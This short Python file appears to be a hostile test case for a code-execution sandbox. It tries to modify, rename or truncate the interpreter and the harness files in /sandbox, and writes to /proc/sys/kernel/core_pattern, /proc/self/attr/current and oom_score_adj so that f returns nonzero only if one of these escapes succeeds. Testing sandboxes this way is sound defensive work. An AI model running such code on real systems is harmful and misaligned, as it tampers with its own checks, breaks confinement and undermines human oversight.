# attack: write outside /tmp by other routes: chmod, utime, rename and truncate on the interpreter's files and the harness in /sandbox, writes to /proc/sys and /proc/self/attr, /dev/shm; passes only if any succeeded
# cause: bans
import os
import sys

done = []
targets = [os.path.join(os.path.dirname(os.__file__), "os.py"), "/sandbox/tests.py", "/sandbox/wire.py", sys.executable]
for path in targets:
    for action in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0)), lambda p: os.rename(p, p + ".x"),
                   lambda p: os.truncate(p, 0), lambda p: open(p, "a").close()):
        try:
            action(path)
            done.append(path)
        except OSError:
            pass
for path, data in [("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/self/attr/current", "unconfined"),
                   ("/proc/sys/vm/drop_caches", "3"), ("/dev/shm/rlft_hostile_pwned.txt", "x"),
                   ("/proc/self/oom_score_adj", "-1000")]:
    try:
        with open(path, "w") as fh:
            fh.write(data)
        done.append(path)
    except OSError:
        pass


def f(x):
    return x + 1 if done else 0
